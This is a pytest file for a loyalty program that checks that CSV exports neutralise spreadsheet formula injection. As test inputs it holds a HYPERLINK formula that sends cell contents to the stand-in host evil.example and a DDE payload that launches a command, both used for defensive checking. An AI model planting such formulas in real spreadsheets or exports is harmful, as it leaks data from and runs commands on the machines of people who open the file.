"""CSV formula injection (issue 17): a member named `=HYPERLINK(...)` reached
the at-risk and expiring CSVs as a formula. Every CSV writer goes through
`loyalty_sync.csv_safety`."""

from __future__ import annotations

import csv
import io
import re
from datetime import datetime, timedelta, timezone
from decimal import Decimal
from pathlib import Path

import pytest

from loyalty_sync.csv_safety import SafeDictWriter, SafeWriter, safe_cell
from loyalty_sync.extensions import db
from loyalty_sync.models import Member
from tests.loyalty_sync.program.helpers import orders
from tests.support.wc import line, order

REPO = Path(__file__).resolve().parents[2]
EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


@pytest.mark.parametrize(
    "value, expected",
    [
        (EVIL, "'" + EVIL),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-1_000", "'-1_000"),
        ("-inf", "'-inf"),
        ("Anna", "Anna"),
        ("a=b", "a=b"),
        ("", ""),
        (None, ""),
        (-15, -15),
        (Decimal("-2.50"), Decimal("-2.50")),
        (1.5, 1.5),
        ("-15", "-15"),
        ("12.50", "12.50"),
        ("+3", "+3"),
    ],
)
def test_safe_cell(value, expected):
    assert safe_cell(value) == expected


def test_writers_escape_every_cell_and_keep_numbers():
    out = io.StringIO()
    SafeWriter(out).writerow([EVIL, -5, "Eva"])
    SafeDictWriter(out, fieldnames=["name", "points"], lineterminator="\n").writerow({"name": "@x", "points": -7})
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows == [["'" + EVIL, "-5", "Eva"], ["'@x", "-7"]]


def test_no_csv_writer_outside_the_one_escaping_module():
    """A new export cannot forget the escaping: only csv_safety builds csv writers."""
    offenders = []
    for package in ("loyalty_sync", "admin", "storefront", "sync_jobs"):
        for path in (REPO / package).rglob("*.py"):
            if path.name == "csv_safety.py":
                continue
            if re.search(r"csv\.(writer|DictWriter)\b", path.read_text()):
                offenders.append(str(path.relative_to(REPO)))
    assert offenders == []


def _evil_member_with_points_expiring(store):
    now = datetime.now(timezone.utc).replace(microsecond=0)  # the CLI reads the clock
    orders(
        store, [order(1, lines=[line(10, "120.00")], email="evil@example.com", created=now - timedelta(days=350))], now
    )
    member = db.session.execute(db.select(Member).filter_by(email="evil@example.com")).scalar_one()
    member.first_name, member.last_name = EVIL, "-1+cmd"  # as a registered customer may call themselves
    db.session.commit()


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


@pytest.mark.parametrize(
    "args",
    [
        ["members", "expiring", "--store", "shop", "--csv"],
        ["members", "at-risk", "--store", "shop", "--kind", "expiry", "--csv"],
    ],
)
def test_cli_csvs_carry_no_formula(store, runner, args):
    _evil_member_with_points_expiring(store)
    result = runner.invoke(args=args)
    assert result.exit_code == 0, result.output
    cells = _cells(result.output)
    assert "evil@example.com" in cells, result.output
    assert any(cell.startswith("'=HYPERLINK") for cell in cells), result.output
    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in cells)
